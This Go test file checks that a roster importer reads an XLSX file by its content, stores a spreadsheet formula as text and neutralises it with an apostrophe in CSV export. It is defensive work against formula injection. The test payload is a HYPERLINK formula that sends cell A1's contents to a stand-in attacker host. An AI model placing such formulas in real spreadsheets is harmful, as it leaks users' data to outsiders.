package roster_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"circlebook/backend/export"
	"circlebook/backend/internal/testdb"
	"circlebook/backend/model"
	"circlebook/backend/roster"

	"github.com/xuri/excelize/v2"
)

const hyperlink = `HYPERLINK("https://evil.example/?x="&A1,"Profile")`

// workbook makes an XLSX roster: a title row, the header on row 3, and a
// formula (with no saved value, as excelize writes it) as one name.
func workbook(t *testing.T) []byte {
	t.Helper()
	f := excelize.NewFile()
	defer f.Close()
	sheet := f.GetSheetName(0)
	rows := [][]any{
		{"Roster export"},
		nil,
		{"Full name", "Email", "Organisation", "Start date", "Capacity"},
		{"Ana Lima", "ana@example.org", "Acme", "2021-03-01", 2},
		{nil, "eve@example.org", "Globex", "2023-07-15", 1},
		{"Bo Chen", "BO@example.org", "Acme", time.Date(2020, 3, 4, 0, 0, 0, 0, time.UTC), nil},
	}
	for i, r := range rows {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := f.SetSheetRow(sheet, cell, &r); err != nil {
			t.Fatal(err)
		}
	}
	if err := f.SetCellFormula(sheet, "A5", "="+hyperlink); err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := f.Write(&b); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestXLSXWithAFormula: an XLSX roster imports by its content (the name
// says .dat); the formula cell is stored as its text, and a CSV export of
// the circle puts it behind an apostrophe, never as a formula.
func TestXLSXWithAFormula(t *testing.T) {
	svc, f := setup(t)
	c := f.Circle("Pairs")
	path := file(t, "roster.dat", workbook(t))
	pre, err := svc.Preview(roster.Source{Path: path})
	if err != nil {
		t.Fatal(err)
	}
	if pre.Format != "xlsx" || pre.HeaderRow != 3 || pre.Rows != 3 || pre.Mapping["Organisation"] != "organization" {
		t.Errorf("preview %+v", pre)
	}
	res, err := svc.Import(roster.Request{Source: roster.Source{Path: path}, CircleID: c.ID, Role: model.RoleMentor})
	if err != nil {
		t.Fatal(err)
	}
	if res.Created != 3 || res.Joined != 3 {
		t.Fatalf("created %d, joined %d", res.Created, res.Joined)
	}
	eve := person(t, f, "eve@example.org")
	if eve.Name != "="+hyperlink {
		t.Errorf("the formula cell was stored as %q", eve.Name)
	}
	if bo := person(t, f, "bo@example.org"); bo.StartDate != "2020-03-04" {
		t.Errorf("a date cell was stored as %q, want 2020-03-04", bo.StartDate)
	}
	if ana := person(t, f, "ana@example.org"); ana.Capacity != 2 || ana.StartDate != "2021-03-01" || ana.Organization != "Acme" {
		t.Errorf("Ana stored as %+v", ana)
	}
	s, err := export.Build(f.DB, c.ID, export.Options{}, testdb.Now())
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := export.CSV(s, export.TableRoster, &out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(out.Bytes(), []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, r := range rows[1:] {
		if strings.HasPrefix(r[0], "=") {
			t.Errorf("exported cell %q would run as a formula", r[0])
		}
		found = found || r[0] == "'="+hyperlink
	}
	if !found {
		t.Errorf("the formula's text is not in the export, behind an apostrophe: %q", rows)
	}
}
